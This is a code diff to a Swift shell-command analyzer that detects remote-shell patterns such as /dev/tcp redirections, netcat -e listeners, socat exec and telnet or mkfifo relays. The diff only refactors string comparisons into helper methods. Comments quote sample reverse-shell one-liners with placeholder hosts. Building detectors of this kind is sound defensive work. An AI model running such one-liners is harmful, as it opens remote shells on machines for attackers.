@@ -17,17 +17,17 @@ enum ShellAccess {
 
     // /dev/tcp and /dev/udp: bash opens a socket on redirection.
     let sockets = cmd.redirects.filter {
-      $0.target.value.hasPrefix("/dev/tcp/") || $0.target.value.hasPrefix("/dev/udp/")
+      $0.target.value.isDevSocketPath
     }
     if !sockets.isEmpty
-      || inv.args.contains(where: { $0.hasPrefix("/dev/tcp/") || $0.hasPrefix("/dev/udp/") })
+      || inv.args.contains(where: \.isDevSocketPath)
     {
       let wiresStdio =
         cmd.redirects.contains { ($0.op == ">&" || $0.op == "<&" || $0.op == "&>") }
         || sockets.contains { $0.op == "<>" || $0.op == "&>" || $0.op == ">&" }
       let stdio = cmd.redirects.contains { $0.fd == nil || $0.fd == 0 || $0.fd == 1 || $0.fd == 2 }
-      if inv.kind.contains(.shell) || p == "exec" && wiresStdio && stdio && cmd.redirects.count >= 2
-        || (wiresStdio && cmd.redirects.count >= 2 && stdio && p != "exec")
+      if inv.kind.contains(.shell) || p.eq("exec") && wiresStdio && stdio && cmd.redirects.count >= 2
+        || (wiresStdio && cmd.redirects.count >= 2 && stdio && !p.eq("exec"))
       {
         a.hit(
           .devTcpShell, k,
@@ -40,7 +40,7 @@ enum ShellAccess {
     }
 
     // telnet's -e sets the escape character; only netcat-style -e/-c runs a program.
-    if inv.kind.contains(.netClient) && p != "socat" && p != "openssl" && p != "telnet" {
+    if inv.kind.contains(.netClient) && !p.eq("socat") && !p.eq("openssl") && !p.eq("telnet") {
       if inv.hasAny(["-e", "-c", "--exec", "--sh-exec", "--lua-exec"]) {
         if inv.hasAny(["-l", "--listen"]) {
           a.hit(.bindShell, k, reason: "bind shell: \(p) -l serving a program to whoever connects")
@@ -49,7 +49,7 @@ enum ShellAccess {
         }
       }
     }
-    if p == "socat" {
+    if p.eq("socat") {
       let lower = inv.args.map(\.asciiLowercased)
       let runs = lower.contains {
         $0.hasPrefix("exec:") || $0.hasPrefix("system:") || $0.has(",exec")
@@ -69,7 +69,7 @@ enum ShellAccess {
     }
 
     // A network client's output fed to a shell: `telnet h p | /bin/sh | telnet h p2`.
-    if inv.kind.contains(.netClient) || p == "telnet" {
+    if inv.kind.contains(.netClient) || p.eq("telnet") {
       if let s = a.downstream(of: k).first(where: {
         Programs.readsScriptFromStdin(a.invocations[$0]) && a.invocations[$0].kind.contains(.shell)
       }) {
@@ -217,7 +217,7 @@ enum ShellAccess {
     // `{ ...; } 3<>/dev/tcp/h/p`: a socket opened by a group, whose redirection stands alone.
     for c in a.script.commands where c.words.isEmpty {
       if let r = c.redirects.first(where: {
-        $0.target.value.hasPrefix("/dev/tcp/") || $0.target.value.hasPrefix("/dev/udp/")
+        $0.target.value.isDevSocketPath
       }) {
         a.hit(
           .rawSocketTransfer, evidence: c.text,
@@ -226,8 +226,8 @@ enum ShellAccess {
     }
     // mkfifo relay: `mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f`.
     let fifo = a.invocations.indices.first {
-      a.invocations[$0].program == "mkfifo"
-        || (a.invocations[$0].program == "mknod" && a.invocations[$0].args.contains("p"))
+      a.invocations[$0].program.eq("mkfifo")
+        || (a.invocations[$0].program.eq("mknod") && a.invocations[$0].args.contains("p"))
     }
     if let f = fifo {
       let net = a.invocations.contains { Programs.netClients.contains($0.program) }
